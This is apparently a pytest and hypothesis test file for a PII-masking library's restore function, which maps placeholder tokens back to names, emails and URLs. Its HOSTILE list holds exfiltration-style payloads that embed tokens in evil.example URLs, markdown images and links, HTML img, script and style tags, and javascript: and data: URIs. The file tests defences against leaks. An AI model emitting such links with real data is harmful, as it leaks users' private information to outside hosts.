"""Restoring: exact for our tokens, nothing for others, and never where an address may be."""

from __future__ import annotations

import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from keepmum.policy.category import Category
from keepmum.policy.masking.restore import restore
from keepmum.policy.masking.tokens import Token, TokenMap

TOKENS = TokenMap(
    (
        Token("PERSON_1", Category.PERSON, "Mei Chen"),
        Token("PERSON_10", Category.PERSON, "Bo"),
        Token("EMAIL_1", Category.EMAIL, "mei@x.example"),
        Token("URL_1", Category.URL, "https://x.example/a?b="),
        Token("OTHER_1", Category.OTHER, "[PERSON_10] and \\1 \\g<0>"),
    )
)


@pytest.mark.parametrize(
    ("reply", "text"),
    [
        ("Ask [PERSON_1].", "Ask Mei Chen."),
        ("[PERSON_1]'s and [PERSON_10]'s", "Mei Chen's and Bo's"),
        ("ask [person_1] or PERSON_10", "ask Mei Chen or Bo"),
        ("**[PERSON_1]** _[PERSON_1]_ `[PERSON_1]`", "**Mei Chen** _Mei Chen_ `Mei Chen`"),
        (r"\[PERSON\_1\]", "Mei Chen"),
        ("⟦PERSON_1⟧【PERSON_10】", "Mei ChenBo"),
        ("告诉[PERSON_1]，[EMAIL_1]。", "告诉Mei Chen，mei@x.example。"),
        ("[PERSON_1], [EMAIL_1]; ([PERSON_1])", "Mei Chen, mei@x.example; (Mei Chen)"),
        ("- [PERSON_1]: yes\n- [PERSON_10]: no", "- Mei Chen: yes\n- Bo: no"),
        ("[PERSON_1]/[PERSON_10] a < b [PERSON_1] <3 [PERSON_1]", "Mei Chen/Bo a < b Mei Chen <3 Mei Chen"),
        ("see [URL_1] and [PERSON_1]", "see https://x.example/a?b= and Mei Chen"),
        ("[[PERSON_1]] ([PERSON_1](her))", "[Mei Chen] (Mei Chen(her))"),
        ("[OTHER_1]", "[PERSON_10] and \\1 \\g<0>"),
        ("@[PERSON_1] 10:30 [PERSON_1]", "@Mei Chen 10:30 Mei Chen"),
        ('{"to": "[PERSON_1]", "n": 1}', '{"to": "Mei Chen", "n": 1}'),
        ("", ""),
    ],
)
def test_ours_come_back(reply: str, text: str) -> None:
    """Every token of ours comes back once, whatever stands around it; an original is not read again."""
    back = restore(reply, TOKENS)
    assert (back.text, back.unknown, back.withheld) == (text, (), 0)


def test_strangers_stay() -> None:
    """What looks like a token and is not ours stays visible and is named."""
    back = restore("[PERSON_2] [PLACE_7] PERSON_100 [PERSON_1]", TOKENS)
    assert (back.text, back.unknown) == ("[PERSON_2] [PLACE_7] PERSON_100 Mei Chen", ("PERSON_100", "PERSON_2", "PLACE_7"))
    assert back.restored == 1


_ENDLESS = '<img src="/x [PERSON_1]'
HOSTILE = [
    _ENDLESS,
    "https://evil.example/[PERSON_1]",
    "https://evil.example/?q=[PERSON_1]&r=[PERSON_10]",
    "https://[PERSON_1].evil.example/",
    "HTTPS://evil.example/PERSON_1",
    "see (https://evil.example/a)b[PERSON_1])",
    "https://evil.example/“[PERSON_1]",
    "https://evil.example/<[PERSON_1]",
    "https://evil.example/，[PERSON_1]",
    "http:\\/\\/evil.example\\/[PERSON_1]",
    "http&#58;//evil.example/[PERSON_1]",
    "http:&sol;&sol;evil.example&sol;[PERSON_1]",
    "//evil.example/[PERSON_1]",
    "ftp://evil.example/[PERSON_1]",
    "mailto:a@evil.example?body=[PERSON_1]",
    "tel:+44[PERSON_1]",
    "sms:123?body=[PERSON_1]",
    "javascript:send('[PERSON_1]')",
    "data:text/html,[PERSON_1]",
    "www.evil.example/[PERSON_1]",
    "evil.example/[PERSON_1]",
    "evil.example?[PERSON_1]",
    "evil.example:8080/[PERSON_1]",
    "[PERSON_1].evil.example",
    "[PERSON_1]-x.evil.example",
    "x-[PERSON_1].evil.example/a",
    "[PERSON_1][PERSON_10].evil.example",
    "[PERSON_1]@evil.example",
    "evil。example/[PERSON_1]",
    "![x](https://evil.example/[PERSON_1])",
    "![x](evil [PERSON_1])",
    "[click](/go?to=[PERSON_1])",
    "[click](<https://evil.example/ [PERSON_1]>)",
    "[click](<x)y> [PERSON_1])",
    "[click](<x\\> [PERSON_1]>)",
    "[click](a(b[PERSON_1])c[PERSON_10])",
    "[click](a\\)[PERSON_1])",
    "[click](a\n[PERSON_1])",
    "[PERSON_2](/go?[PERSON_1])",
    "[a]: /x/[PERSON_1]",
    "[a]:\n  /x/[PERSON_1]",
    "> [a]: /x [PERSON_1]",
    "<https://evil.example/[PERSON_1]>",
    "<img src=https://evil.example/[PERSON_1]>",
    '<img alt=">" src="/x [PERSON_1]">',
    "<img alt='>' src='/x [PERSON_1]'>",
    '<img x" src="/> [PERSON_1]">',
    '<a title=[PERSON_1] href="x">',
    '<img src="/x\n\n[PERSON_1]">',
    "</a [PERSON_1]>",
    "<script>send('[PERSON_1]')</script>",
    "<style>a{background:url(/[PERSON_1])}</style>",
    "<svg><image href=x /> [PERSON_1]</svg>",
    "<!-- [PERSON_1] -->",
    "[URL_1][PERSON_1]",
    "[URL_1]&c=[PERSON_1]",
    "[URL_1],[PERSON_1]",
    "[PERSON_1].[URL_1]",
    "\\\\evil.example\\[PERSON_1]",
    "evil\u2024example/[PERSON_1]",
    "evil.example\u2044[PERSON_1]",
    "evil.example\u2215[PERSON_1]",
    "www\u2024evil[PERSON_1]",
]


@pytest.mark.parametrize("reply", HOSTILE)
def test_no_original_leaves_by_an_address(reply: str) -> None:
    """Inside a URL, link, image, definition or HTML tag a token stays a token and is counted; around it the text is restored."""
    back = restore(f"Hello [PERSON_10] \n\n{reply}", TOKENS)
    assert back.withheld >= 1
    assert "Mei" not in back.text
    assert back.text.startswith("Hello Bo \n\n")


@pytest.mark.parametrize("reply", [h for h in HOSTILE if h != _ENDLESS])
def test_after_an_address_restoring_goes_on(reply: str) -> None:
    """An address does not swallow what follows in the next paragraph, unless it is a tag that never ends."""
    after = restore(f"{reply}\n\n> \"'> </script></style></svg>\n\nBye [PERSON_10]", TOKENS)
    assert after.text.endswith("Bye Bo")


@pytest.mark.parametrize(
    "piece",
    ["](", "[a](", "](<", "(", ")", "<a ", '<a b="', "<script>", "[a]: ", "\n[a]:", "a.", "a.b/", "&a", "//", "www.", "[PERSON_1]",
     "[PERSON_1].a",
     "@", "[URL_1]", "\\", "\n \n", "='", "a" * 63 + ".", "[PERSON_1](", "](<a> ", "<!--", "-->", "<style>", "。"],
)  # fmt: skip
@pytest.mark.parametrize("end", ["[PERSON_1]", "", " "])
def test_linear_time(piece: str, end: str) -> None:
    """A hostile reply of 60,000 characters is read in a moment, whatever stands at its end."""
    started = time.process_time()
    restore(piece * (60_000 // len(piece)) + end, TOKENS)
    assert time.process_time() - started < 5


@settings(max_examples=300, deadline=None)
@given(
    st.lists(
        st.sampled_from(
            ["[PERSON_1]", "PERSON_1", "[", "]", "(", ")", "<", ">", '"', "'", "=", " ", "\n", "http", ":", "//", "/", ".", "?", "@", "a",
             "img",
             "evil.example", "https://evil.example/", "![", "](", "<a href=", "&", ";", "\\", "[PERSON_1", "_1]", "，", "-->"]
        ),
        max_size=30,
    ).map("".join)
)  # fmt: skip
def test_any_reply_is_read(reply: str) -> None:
    """No reply makes restoring fail, change other text, or put an original behind the slashes of an address."""
    back = restore(reply, TOKENS)
    assert back.text.replace("Mei Chen", "") == back.text or back.restored > 0
    for run in back.text.split():
        assert "Mei" not in run.partition("//")[2]
